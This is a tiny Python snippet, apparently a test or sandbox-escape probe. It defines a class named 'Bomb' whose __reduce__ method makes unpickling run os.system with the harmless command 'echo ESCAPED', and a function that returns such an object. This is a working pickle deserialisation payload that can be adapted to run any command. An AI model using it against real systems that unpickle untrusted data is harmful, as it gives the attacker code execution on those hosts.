# Return an object whose unpickling runs a command.
import os
class Bomb:
    def __reduce__(self): return os.system, ('echo ESCAPED',)
def f(x): return [Bomb()]
